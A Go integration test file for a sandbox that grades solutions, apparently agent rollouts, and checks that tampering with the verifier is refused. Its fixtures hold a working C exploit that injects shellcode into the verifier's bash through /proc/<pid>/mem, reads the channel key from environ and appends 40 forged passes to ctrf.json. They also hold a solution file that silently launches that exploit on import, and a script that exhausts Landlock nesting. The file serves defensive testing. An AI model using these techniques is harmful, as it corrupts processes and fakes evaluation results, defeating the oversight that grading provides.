package sandbox_test

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/t1flow/t1flow/activities"
	"github.com/t1flow/t1flow/internal/testenv"
	"github.com/t1flow/t1flow/sandbox"
)

// procMemProbe is a process the solution starts from inside the sealed
// pytest (a static binary, so nothing of the toolchain's or the container's
// is needed). It finds every process that holds the runner's channel or
// hands it on (test.sh's bash, timeout, uvx and uv, the relay, pytest) and,
// for each, opens /proc/<pid>/mem for writing (and writes back a few bytes
// it read), /proc/<pid>/fd/61 and /proc/<pid>/environ, printing one
// "<name> pid=<pid> mem=… fd61=… environ=…" line each (OK or the errno's
// name) to /tmp/.procmem. It also moves a file across directories, as
// honest code does ("rename=").
//
// Where test.sh's bash's memory opens for writing (x86_64), it goes on as
// a real attack would: it reads where the bash is blocked in a system call
// (/proc/<pid>/syscall: the address it returns to) and writes code there
// that, once pytest ends and the call returns, forks a child of the bash,
// which holds descriptor 61 (the socket to the relay), to run
// /tmp/.own/own.sh, waits for it and exits 0. own.sh runs a genuine
// pytest session of 40 passing tests on that descriptor with the toolchain's
// Python and t1flow_mark plugin (the host's public share read from the
// bash's environ, so the plugin agrees a key with the host) and adds the 40
// to ctrf.json beside the real failures.
const procMemProbe = `#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#if defined(__x86_64__)
extern const unsigned char sc_start[], sc_end[];
__asm__(".text\n.globl sc_start\n.globl sc_end\nsc_start:\n"
	"mov $57, %eax\nsyscall\n"                       /* fork */
	"test %eax, %eax\njnz 2f\n"
	"lea sc_path(%rip), %rdi\npush $0\npush %rdi\nmov %rsp, %rsi\nxor %edx, %edx\n"
	"mov $59, %eax\nsyscall\n"                       /* execve(own.sh) */
	"mov $127, %edi\nmov $60, %eax\nsyscall\n"
	"2: mov %eax, %r12d\n"
	"3: mov %r12d, %edi\nxor %esi, %esi\nxor %edx, %edx\nxor %r10d, %r10d\n"
	"mov $61, %eax\nsyscall\n"                       /* wait4(child) */
	"cmp $-4, %rax\nje 3b\n"
	"xor %edi, %edi\nmov $231, %eax\nsyscall\n"      /* exit_group(0) */
	"sc_path: .asciz \"/tmp/.own/own.sh\"\nsc_end:\n");
#endif

static FILE *out;

static const char *why(int e) {
	static char b[32];
	switch (e) {
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ENXIO: return "ENXIO";
	case ENOENT: return "ENOENT";
	}
	snprintf(b, sizeof b, "errno%d", e);
	return b;
}

static int slurp(const char *path, char *buf, int n) {
	int fd = open(path, O_RDONLY), got = 0, r;
	if (fd < 0) return -1;
	while (got < n - 1 && (r = read(fd, buf + got, n - 1 - got)) > 0) got += r;
	int e = errno;
	close(fd);
	if (r < 0 && got == 0) { errno = e; return -1; }
	buf[got] = 0;
	return got;
}

/* Opens pid's memory for writing and writes back 16 bytes of a writable
   mapping; returns the descriptor or -1 with errno set. */
static int mem_rw(int pid) {
	char path[64], maps[1 << 16], buf[16], perm[5];
	unsigned long lo = 0, hi;
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int fd = open(path, O_RDWR);
	if (fd < 0) return -1;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	if (slurp(path, maps, sizeof maps) < 0) { close(fd); return -1; }
	for (char *l = maps; l && *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : 0)
		if (sscanf(l, "%lx-%lx %4s", &lo, &hi, perm) == 3 && !strcmp(perm, "rw-p")) break;
	if (pread(fd, buf, sizeof buf, lo) != sizeof buf || pwrite(fd, buf, sizeof buf, lo) != sizeof buf) {
		int e = errno; close(fd); errno = e; return -1;
	}
	return fd;
}

static int arm(int pid, int mem) {
#if defined(__x86_64__)
	char path[64], env[1 << 16], sys[256], key[600] = "", trusted[600] = "";
	unsigned long a[8], pc;
	long nr;
	snprintf(path, sizeof path, "/proc/%d/syscall", pid);
	if (slurp(path, sys, sizeof sys) < 0) return fprintf(out, "exploit=syscall %s\n", why(errno));
	if (sscanf(sys, "%ld %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &a[0], &a[1], &a[2], &a[3], &a[4], &a[5], &a[6], &pc) != 9)
		return fprintf(out, "exploit=not blocked in a call: %s", sys);
	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	int n = slurp(path, env, sizeof env);
	for (int i = 0; i < n; i += strlen(env + i) + 1) {
		if (!strncmp(env + i, "T1VERIFY_CHANNEL_KEY=", 21)) snprintf(key, sizeof key, "%s", env + i + 21);
		if (!strncmp(env + i, "T1FLOW_TRUSTED_CODE=", 20)) snprintf(trusted, sizeof trusted, "%s", env + i + 20);
	}
	mkdir("/tmp/.own", 0755);
	FILE *f = fopen("/tmp/.own/test_outputs.py", "w");
	for (int i = 0; i < 40; i++) fprintf(f, "def test_forged_%d():\n    pass\n", i);
	fclose(f);
	f = fopen("/tmp/.own/own.sh", "w");
	fprintf(f, "#!/.t1flow-verifier/bin/bash\ncd /tmp/.own || exit 1\n"
		"/.t1flow-verifier/bin/env -i PATH=/.t1flow-verifier/bin HOME=/tmp T1FLOW_CHANNEL_FD=61 T1VERIFY_CHANNEL_KEY=%s "
		"T1FLOW_TRUSTED_CODE=%s:/tmp/.own PYTHONPATH=/.t1flow-verifier/plugins PYTEST_ADDOPTS='-p t1flow_mark' "
		"/.t1flow-verifier/bin/python3 -m pytest -q -p no:cacheprovider --rootdir=/tmp/.own test_outputs.py >session.log 2>&1\n"
		"echo \"own session: exit $? ($(tail -1 session.log))\" >>/tmp/.procmem\n"
		"/.t1flow-verifier/bin/python3 -c 'import json; p = \"/logs/verifier/ctrf.json\"; d = json.load(open(p)); "
		"d[\"results\"][\"tests\"] += [{\"name\": \"test_outputs.py::test_forged_%%d\" %% i, \"status\": \"passed\"} for i in range(40)]; "
		"json.dump(d, open(p, \"w\"))' >>/tmp/.procmem 2>&1\n", key, trusted);
	fclose(f);
	chmod("/tmp/.own/own.sh", 0755);
	long len = sc_end - sc_start;
	if (pwrite(mem, sc_start, len, pc) != len) return fprintf(out, "exploit=write %s\n", why(errno));
	return fprintf(out, "exploit=armed: %ld bytes at 0x%lx (the bash is in system call %ld), key %s\n", len, pc, nr, *key ? "read" : "missing");
#else
	return fprintf(out, "exploit=not x86_64\n");
#endif
}

static const char *kind(const char *cmd) {
	const char *argv0 = cmd, *end = strchr(cmd, ' ');
	for (const char *c = cmd; end && c < end; c++)
		if (*c == '/') argv0 = c + 1;
	if (!strncmp(argv0, "bash ", 5) && strstr(cmd, " /tests/test.sh")) return "bash";
	if (!strncmp(argv0, "timeout ", 8)) return "timeout";
	if (!strncmp(argv0, "uvx ", 4)) return "uvx";
	if (!strncmp(argv0, "uv ", 3)) return "uv";
	if (strstr(cmd, "t1flow_relay.py")) return "relay";
	if (strstr(cmd, "--ctrf")) return "pytest";
	return 0;
}

int main(void) {
	if (open("/tmp/.procmem", O_WRONLY | O_CREAT | O_EXCL, 0644) < 0) return 0;
	out = fopen("/tmp/.procmem", "a");
	setvbuf(out, 0, _IOLBF, 0);
	char st[4096], *nnp;
	if (slurp("/proc/self/status", st, sizeof st) > 0 && (nnp = strstr(st, "NoNewPrivs:"))) fprintf(out, "%.*s\n", (int)strcspn(nnp, "\n"), nnp);
	mkdir("/tmp/.pm-a", 0755);
	mkdir("/tmp/.pm-b", 0755);
	close(open("/tmp/.pm-a/f", O_WRONLY | O_CREAT, 0644));
	fprintf(out, "rename=%s\n", rename("/tmp/.pm-a/f", "/tmp/.pm-b/f") == 0 ? "OK" : why(errno));
	DIR *d = opendir("/proc");
	struct dirent *e;
	int bash = 0, bashmem = -1;
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name);
		char path[64], cmd[1024];
		if (pid <= 0 || pid == getpid()) continue;
		snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
		int n = slurp(path, cmd, sizeof cmd);
		for (int i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
		const char *k = n > 0 ? kind(cmd) : 0;
		if (!k) continue;
		int mem = mem_rw(pid), me = errno;
		snprintf(path, sizeof path, "/proc/%d/fd/61", pid);
		int ch = open(path, O_WRONLY), ce = errno;
		snprintf(path, sizeof path, "/proc/%d/environ", pid);
		int en = open(path, O_RDONLY), ee = errno;
		fprintf(out, "%s pid=%d mem=%s fd61=%s environ=%s\n", k, pid, mem >= 0 ? "OK" : why(me), ch >= 0 ? "OK" : why(ce), en >= 0 ? "OK" : why(ee));
		if (!strcmp(k, "bash") && mem >= 0) bash = pid, bashmem = mem;
		else if (mem >= 0) close(mem);
	}
	if (bash) arm(bash, bashmem);
	return 0;
}
`

// procMemSolution is a wrong /app/inventory.py (only load is right: one of
// five tests passes honestly) whose first import runs procMemProbe.
const procMemSolution = `cat > /app/inventory.py <<'PY'
import csv, subprocess


def load(path):
    with open(path, newline="") as f:
        return [dict(r, qty=int(r["qty"]), price=float(r["price"])) for r in csv.DictReader(f)]


def in_stock(rows): return []
def value(rows): return 0
def restock(rows, sku, n): return rows


subprocess.run(["/app/ptrace-probe/probe"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
PY
echo planted`

// holderLine is one line of procMemProbe's about a holder of the channel.
var holderLine = regexp.MustCompile(`(?m)^(bash|timeout|uvx|uv|relay|pytest) pid=\d+ mem=(\S+) fd61=(\S+) environ=(\S+)$`)

// TestProbeProcMemOfTheChannelsHolders: a solution that gets one of five
// tests right starts a process that writes the memory of test.sh's bash
// (dumpable, of its own uid, holding descriptor 61) through
// /proc/<pid>/mem, which no seccomp profile can refuse, and makes the bash
// run a pytest session of its own on the channel. The toolchain's pytest
// confines itself and every process it starts to a Landlock domain before
// any test runs, so none of them may open the memory, descriptors or
// environment of a process outside it (test.sh's bash, timeout, uvx, uv):
// each must be refused, and no more than the one honest pass counted; a
// rename across directories must still work. With test.sh as root and as
// verifier.user nobody.
func TestProbeProcMemOfTheChannelsHolders(t *testing.T) {
	if !testenv.Required() {
		t.Skip("integration test: set T1FLOW_INTEGRATION=1")
	}
	src := filepath.Join(testenv.RepoRoot(), "examples/tb2/inventory-module")
	probe := buildProbe(t, procMemProbe)
	for name, dir := range map[string]string{"root": src, "nobody": asVerifierUser(t, src, "nobody")} {
		t.Run(name, func(t *testing.T) {
			r := newProbeRig(t, dir)
			if err := r.d.CopyIn(context.Background(), r.id, "/app", probe); err != nil {
				t.Fatal(err)
			}
			r.agent(procMemSolution)
			vr, err := r.a.Verify(context.Background(), activities.VerifyInput{
				Sandbox: activities.Sandbox{ContainerID: r.id, Name: "probe"}, Task: r.ref, RolloutID: "probe",
			})
			if err != nil {
				t.Fatalf("Verify: %v", err)
			}
			seen := r.agent("cat /tmp/.procmem 2>&1; true")
			t.Logf("Verify: resolved %v, %d/%d passed, tampered %v; the solution's process:\n%s", vr.Resolved, vr.Passed, vr.Total, vr.Tampered, seen)
			holders := holderLine.FindAllStringSubmatch(seen, -1)
			if !strings.Contains(seen, "\nbash pid=") {
				t.Fatalf("the probe did not find test.sh's bash")
			}
			refused := func(r string) bool { return r == "EACCES" || r == "EPERM" }
			for _, h := range holders {
				// pytest itself keeps the channel under another number.
				held := !(h[1] == "pytest" && h[3] == "ENOENT")
				if !refused(h[2]) || held && !refused(h[3]) || !refused(h[4]) {
					t.Errorf("%s: a process pytest started was not refused its memory, descriptor 61 or environ", h[0])
				}
			}
			if !strings.Contains(seen, "rename=OK") {
				t.Errorf("a rename across directories failed under pytest's confinement")
			}
			if vr.Resolved || vr.Passed > 1 && len(vr.Tampered) == 0 {
				t.Fatalf("the bash's memory written: %d/%d passed counted, resolved %v, not tampered", vr.Passed, vr.Total, vr.Resolved)
			}
		})
	}
}

// asVerifierUser is a copy of the task at src whose task.toml runs the
// verifier as user.
func asVerifierUser(t *testing.T, src, user string) string {
	t.Helper()
	dst := filepath.Join(t.TempDir(), filepath.Base(src)+"-"+user)
	if out, err := exec.Command("cp", "-r", src, dst).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v: %s", err, out)
	}
	toml, err := os.ReadFile(filepath.Join(dst, "task.toml"))
	if err != nil {
		t.Fatal(err)
	}
	toml = bytes.Replace(toml, []byte("[verifier]\n"), []byte("[verifier]\nuser = \""+user+"\"\n"), 1)
	if err := os.WriteFile(filepath.Join(dst, "task.toml"), toml, 0o644); err != nil {
		t.Fatal(err)
	}
	return dst
}

// unconfinedRun runs, with the toolchain's Python (-I -S: no guard),
// Landlock domains nested to the kernel's limit (16), so that the next
// landlock_restrict_self fails with E2BIG, as the calls fail where the
// kernel has no Landlock; then the toolchain's Python with the runner's
// guard, handed a pipe as its channel. It prints what the child printed
// and the channel's lines.
const unconfinedRun = `/.t1flow-verifier/bin/python3 -I -S -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
L = ctypes.c_long
class Attr(ctypes.Structure):
    _fields_ = [("fs", ctypes.c_uint64)]
attr = Attr(1 << 13)
libc.prctl(38, L(1), L(0), L(0), L(0))
n = 0
while True:
    fd = libc.syscall(L(444), ctypes.byref(attr), L(8), L(0))
    if fd < 0 or libc.syscall(L(446), L(fd), L(0)) != 0:
        break
    os.close(fd)
    n += 1
print("nested", n, flush=True)
r, w = os.pipe()
os.set_inheritable(w, True)
pid = os.fork()
if pid == 0:
    os.close(r)
    os.execve("/.t1flow-verifier/bin/python3", ["python3", "-c", "print(\"the runner ran\")"],
              {"T1FLOW_CHANNEL_FD": str(w), "PATH": "/.t1flow-verifier/bin"})
os.close(w)
os.waitpid(pid, 0)
print(os.read(r, 65536).decode())
'`

// TestRunnerGoesOnUnconfined: where the guard cannot confine pytest (no
// Landlock in the kernel, or here its nesting limit reached), the runner
// starts as before and the guard's line on the channel says why.
func TestRunnerGoesOnUnconfined(t *testing.T) {
	if !testenv.Required() {
		t.Skip("integration test: set T1FLOW_INTEGRATION=1")
	}
	r := newProbeRig(t, filepath.Join(testenv.RepoRoot(), "examples/tb2/inventory-module"))
	out := r.agent(unconfinedRun)
	t.Logf("%s", out)
	ch := sandbox.ParseRunnerChannel([]byte(out), int64(len(out)))
	if !strings.Contains(out, "the runner ran") || len(ch.Unconfined) != 1 || !strings.Contains(ch.Unconfined[0], "landlock_restrict_self") {
		t.Fatalf("the runner unconfined: %q", ch.Unconfined)
	}
}
